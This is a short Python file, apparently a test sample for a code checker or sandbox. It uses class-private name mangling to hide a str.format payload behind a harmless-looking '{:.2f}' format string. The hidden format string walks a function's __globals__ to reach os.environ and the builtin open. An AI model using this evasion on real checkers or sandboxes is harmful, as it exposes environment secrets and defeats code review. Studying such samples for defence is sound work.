# source: Python name mangling (private names in class bodies, docs "Private Variables");
#         adapted from str.format attribute-access leaks (Armin Ronacher 2016, pyjail {0.__class__} tricks)
# family: format string read into a name the check believes is one literal: the check resolves
#         `__fmt` by its spelling, Python reads it inside class C as the global `_C__fmt`
# goal: str.format reads attributes/items: a function's __globals__, module os, os.environ, builtins
import random

r = random.Random(1)
u = "_" * 2
g = "0.seed." + u + "globals" + u
_C__fmt = "{%s} | {%s} | {%s}" % (g + "[_os]", g + "[_os].environ", g + "[" + u + "builtins" + u + "][open]")
__fmt = "{:.2f}"


class C:
    def show(self, obj):
        return __fmt.format(obj)


print(C().show(r))
